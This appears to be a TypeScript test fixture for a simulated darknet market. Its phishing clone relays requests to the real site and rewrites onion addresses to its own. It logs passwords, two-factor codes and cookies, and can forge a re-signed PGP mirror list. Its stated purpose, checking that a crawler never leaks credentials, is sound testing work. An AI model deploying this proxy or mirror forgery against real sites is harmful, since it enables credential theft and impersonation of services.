// A phishing clone: another onion that serves the market's own pages by relaying every request to it, rewrites the
// market's onions into its own in what it sends back, and keeps whatever credentials pass through. Its log is the
// ground truth a test checks: a crawler that never hands it anything leaves it empty.
import http from 'node:http';
import net from 'node:net';
import { createCleartextMessage, readPrivateKey, sign } from 'openpgp';
import { buildPgpSecretKey } from '../../pgp/index.ts';
import { circuitIdFor, circuitOf, proxyHeader, proxyProtocolListener } from '../../net/index.ts';
import type { SimDay, SimMarket } from '../../world/index.ts';
import { dayToIsoDate, dayToUnix } from '../../world/index.ts';
import type { Design } from '../designs/index.ts';
import { isPath, readBody } from '../url.ts';
import { mirrorsPage } from './mirrors.ts';

/** How the clone treats the signed mirror list: rewrite its onions (the signature breaks) or re-sign it with its own key. */
export type CloneKind = 'rewrite' | 'resign';

/** One thing the clone stole (or would have): never the secret itself in tests' output, but it is kept here. */
export interface CloneCapture {
  kind: 'password' | 'two-factor' | 'cookie';
  /** The login name, when the credential came with one. */
  username?: string;
  /** Cookie names, for kind 'cookie'. */
  names?: string[];
  path: string;
  at: Date;
  /** What was received, exactly (ground truth). */
  secret: string;
}

export interface CloneOptions {
  onion: string;
  kind: CloneKind;
  market: SimMarket;
  design: Design;
  /** Port of the real market's server (the clone reaches it as a client through its own circuit). */
  marketPort: () => number;
  /** The market's onions the clone impersonates today. */
  marketOnions: () => string[];
  day: () => SimDay;
  twoFactorPath?: string;
  twoFactorField?: string;
  mirrorsPath?: string;
}

const MAX_BODY = 64 * 1024;

export class PhishingClone {
  readonly onion: string;
  readonly kind: CloneKind;
  readonly #o: CloneOptions;
  readonly #http: http.Server;
  readonly #listener: net.Server;
  readonly #sockets = new Set<net.Socket>();
  readonly #captures: CloneCapture[] = [];
  #requests = 0;
  #port = 0;

  constructor(o: CloneOptions) {
    this.#o = o;
    this.onion = o.onion;
    this.kind = o.kind;
    this.#http = http.createServer((req, res) => {
      this.#relay(req, res).catch(() => {
        if (!res.headersSent) res.writeHead(502).end();
        else res.destroy();
      });
    });
    this.#listener = proxyProtocolListener(this.#http, (s) => {
      this.#sockets.add(s);
      s.on('close', () => this.#sockets.delete(s));
    });
  }

  async listen(): Promise<number> {
    await new Promise<void>((resolve, reject) => {
      this.#listener.once('error', reject);
      this.#listener.listen(0, '127.0.0.1', () => resolve());
    });
    this.#port = (this.#listener.address() as net.AddressInfo).port;
    return this.#port;
  }

  get port(): number {
    return this.#port;
  }

  get requestCount(): number {
    return this.#requests;
  }

  /** Ground truth: every credential, 2FA code and cookie the clone received. */
  captured(): readonly CloneCapture[] {
    return [...this.#captures];
  }

  async close(): Promise<void> {
    for (const s of this.#sockets) s.destroy();
    if (!this.#listener.listening) return;
    await new Promise<void>((resolve) => this.#listener.close(() => resolve()));
  }

  #steal(req: http.IncomingMessage, url: URL, body: string): void {
    const at = new Date();
    const path = url.pathname + url.search;
    const cookie = req.headers.cookie;
    if (cookie) {
      const names = cookie.split(';').map((p) => p.split('=')[0]?.trim() ?? '').filter(Boolean);
      this.#captures.push({ kind: 'cookie', names, path, at, secret: cookie });
    }
    if (req.method !== 'POST') return;
    const form = new URLSearchParams(body);
    const f = this.#o.design.fields;
    if (isPath(url, this.#o.design.loginPath) && (form.has(f.password) || form.has(f.username))) {
      this.#captures.push({ kind: 'password', username: form.get(f.username) ?? '', path, at, secret: form.get(f.password) ?? '' });
    }
    if (this.#o.twoFactorPath && this.#o.twoFactorField && isPath(url, this.#o.twoFactorPath) && form.has(this.#o.twoFactorField)) {
      this.#captures.push({ kind: 'two-factor', path, at, secret: form.get(this.#o.twoFactorField) ?? '' });
    }
  }

  async #relay(req: http.IncomingMessage, res: http.ServerResponse): Promise<void> {
    this.#requests++;
    const text = await readBody(req, MAX_BODY);
    if (text === undefined) {
      res.writeHead(413).end();
      return;
    }
    const body = Buffer.from(text, 'utf8');
    const url = new URL(req.url ?? '/', `http://${this.onion}`);
    this.#steal(req, url, text);
    const real = this.#o.marketOnions();
    const victimCircuit = circuitOf(req.socket) ?? 0;
    const headers: http.OutgoingHttpHeaders = { ...req.headers, host: real[0] ?? this.#o.market.onion };
    delete headers.connection;
    delete headers['keep-alive'];
    // The clone rewrites the pages it relays, so it asks the real market for them uncompressed.
    delete headers['accept-encoding'];
    headers['content-length'] = String(body.length);
    if (typeof headers.referer === 'string') headers.referer = headers.referer.split(this.onion).join(real[0] ?? '');
    const upstream = await new Promise<http.IncomingMessage>((resolve, reject) => {
      const r = http.request({
        method: req.method,
        path: req.url,
        headers,
        createConnection: () => {
          const s = net.connect({ host: '127.0.0.1', port: this.#o.marketPort() });
          s.write(proxyHeader(circuitIdFor(`clone:${this.onion}`, String(victimCircuit))));
          return s;
        },
      }, resolve);
      r.on('error', reject);
      r.setTimeout(30_000, () => r.destroy(new Error('upstream timeout')));
      r.end(body);
    });
    const chunks: Buffer[] = [];
    for await (const c of upstream) chunks.push(c as Buffer);
    let out: Buffer = Buffer.concat(chunks);
    const type = String(upstream.headers['content-type'] ?? '');
    if (/text|html/i.test(type)) {
      let text = out.toString('utf8');
      if (this.kind === 'resign' && this.#o.mirrorsPath && isPath(url, this.#o.mirrorsPath) && upstream.statusCode === 200 && text.includes('BEGIN PGP SIGNED MESSAGE')) {
        text = await this.#ownMirrorsPage();
      } else {
        for (const o of real) text = text.split(o).join(this.onion);
      }
      out = Buffer.from(text, 'utf8');
    }
    const outHeaders: http.OutgoingHttpHeaders = { ...upstream.headers, 'content-length': String(out.length) };
    delete outHeaders['transfer-encoding'];
    delete outHeaders.connection;
    if (typeof outHeaders.location === 'string') for (const o of real) outHeaders.location = (outHeaders.location as string).split(o).join(this.onion);
    res.sendDate = false;
    res.writeHead(upstream.statusCode ?? 502, outHeaders);
    res.end(out);
  }

  /** A mirror list in the market's words, listing the clone, signed with the clone's own key (shown as "ours"). */
  async #ownMirrorsPage(): Promise<string> {
    const m = this.#o.market;
    const day = this.#o.day();
    const key = buildPgpSecretKey({ seed: `clone/${this.onion}`, created: dayToUnix(Math.min(0, m.openDay)), userId: `${m.name} <staff@${this.onion}>`, encryptionSubkey: true });
    const text = [`${m.name} - official mirrors`, `Date: ${dayToIsoDate(day)}`, '', `These are the only official addresses of ${m.name}.`, '', `http://${this.onion}`, ''].join('\n');
    const signed = await sign({ message: await createCleartextMessage({ text }), signingKeys: await readPrivateKey({ armoredKey: key.secretArmored }), date: new Date(dayToUnix(day) * 1000), config: { nonDeterministicSignaturesViaNotation: false } });
    return mirrorsPage(m, signed, key.armored);
  }
}
